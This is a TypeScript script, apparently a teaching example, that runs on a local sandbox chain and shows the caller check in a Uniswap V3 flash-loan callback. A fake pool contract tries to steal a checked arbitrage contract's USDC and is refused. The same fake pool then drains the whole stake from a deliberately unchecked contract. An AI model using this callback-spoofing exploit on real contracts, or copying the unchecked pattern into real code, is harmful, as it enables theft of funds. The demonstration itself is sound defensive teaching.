import assert from 'node:assert/strict';
import {encodeAbiParameters, erc20Abi, parseAbi, parseAbiParameters, parseUnits} from 'viem';
import {client, clientOf, confirm} from '../../support/chain';
import {runOnSandbox} from '../../support/runOnSandbox';
import {deploy} from '../../support/contract';
import {revertOf} from './support/revertOf';
import {balance, openGap, poolOf, router, show, usdc, weth} from './support/market';
import {flashArbitrageAbi, flashFeePips, makeOrder, quoteLegs} from './support/order';

const fakePoolAbi = parseAbi(['function attack(address target, bytes data)']);
const loan = parseAbiParameters([
  'struct PoolKey { address token0; address token1; uint24 fee; }',
  'struct Order { address tokenBorrowed; address tokenTraded; uint24 flashFeePips; uint24 buyFeePips; uint24 sellFeePips; uint256 amountBorrowed; uint256 amountTradedMinimum; uint256 profitMinimum; uint256 deadline; }',
  'struct Loan { PoolKey poolKey; address payee; Order order; }',
  'Loan loan',
]);
/** Steals; with an account of its own it acts in a local chain only. */
const attacker = clientOf(9);

async function main(): Promise<void> {
  // #region targets
  const pool = await poolOf(flashFeePips);
  const fakePool = await deploy({file: 'examples/v3/flash/Attackers.sol', contract: 'FakePool'}, [
    pool,
  ]);
  const checked = await deploy(
    {file: 'examples/v3/flash/FlashArbitrage.sol', contract: 'FlashArbitrage'},
    [router],
  );
  const unchecked = await deploy(
    {file: 'examples/v3/flash/UncheckedFlash.sol', contract: 'UncheckedFlash'},
    [],
  );
  const stakeUsdc = parseUnits('1000', usdc.decimals);
  const transfer = {address: usdc.address, abi: erc20Abi, functionName: 'transfer'} as const;
  for (const target of [checked, unchecked]) {
    await confirm(await client.writeContract({...transfer, args: [target, stakeUsdc]}));
  }
  // #endregion targets

  // #region attack
  const payee = attacker.account.address;
  await openGap();
  const order = {...(await makeOrder(await quoteLegs())), amountBorrowed: stakeUsdc / 2n};
  const wanted = {...order, amountTradedMinimum: 1n, profitMinimum: 1n};
  const [token0, token1] =
    BigInt(usdc.address) < BigInt(weth.address)
      ? [usdc.address, weth.address]
      : [weth.address, usdc.address];
  const poolKey = {token0, token1, fee: flashFeePips};
  const data = encodeAbiParameters(loan, [{poolKey, payee, order: wanted}]);

  const byFakePool = await revertOf(
    attacker.simulateContract({
      address: fakePool,
      abi: fakePoolAbi,
      functionName: 'attack',
      args: [checked, data],
    }),
  );
  const byWrongCaller = await revertOf(
    attacker.simulateContract({
      address: checked,
      abi: flashArbitrageAbi,
      functionName: 'uniswapV3FlashCallback',
      args: [0n, 0n, data],
    }),
  );
  // #endregion attack
  console.log(`fake pool calls     reverts with ${byFakePool}`);
  console.log(`wrong caller calls  reverts with ${byWrongCaller}`);

  // #region control
  const asPool = {account: pool, address: checked, abi: flashArbitrageAbi} as const;
  const functionName = 'uniswapV3FlashCallback';
  await client.simulateContract({...asPool, functionName, args: [0n, 0n, data]});
  // #endregion control
  console.log('the pool calls      passes: the data was good, only the sender was wrong');

  // #region unchecked
  const claim = encodeAbiParameters(parseAbiParameters('address, uint256'), [
    usdc.address,
    stakeUsdc,
  ]);
  const theft = await attacker.writeContract({
    address: fakePool,
    abi: fakePoolAbi,
    functionName: 'attack',
    args: [unchecked, claim],
  });
  await confirm(theft);
  // #endregion unchecked
  const [kept, lost] = [await balance(usdc, checked), await balance(usdc, unchecked)];
  assert.deepEqual([kept, lost], [stakeUsdc, 0n]);
  console.log(`with the check      ${show(stakeUsdc, usdc)} → ${show(kept, usdc)}`);
  console.log(`without the check   ${show(stakeUsdc, usdc)} → ${show(lost, usdc)}`);
  console.log(`fake pool holds     ${show(await balance(usdc, fakePool), usdc)}`);
}

runOnSandbox('acts as two accounts', main);
